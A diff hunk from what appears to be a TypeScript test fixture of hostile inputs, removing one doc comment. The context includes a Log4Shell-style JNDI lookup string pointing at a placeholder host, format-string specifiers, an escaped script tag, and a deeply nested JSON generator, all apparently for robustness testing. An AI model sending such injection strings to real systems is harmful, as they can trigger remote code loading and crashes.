@@ -54,7 +54,6 @@ export const hostileTexts = {
   'log line': '${jndi:ldap://evil.invalid/a} %s%s%n \\u003cscript\\u003e',
 } as const satisfies Readonly<Record<string, string>>;
 
-/** Hostile by what they are as a whole; JSON, and valid as the data of an event. */
 export function hostileData(): readonly string[] {
   return [
     `{"deep":${'['.repeat(5_000)}${']'.repeat(5_000)}}`,
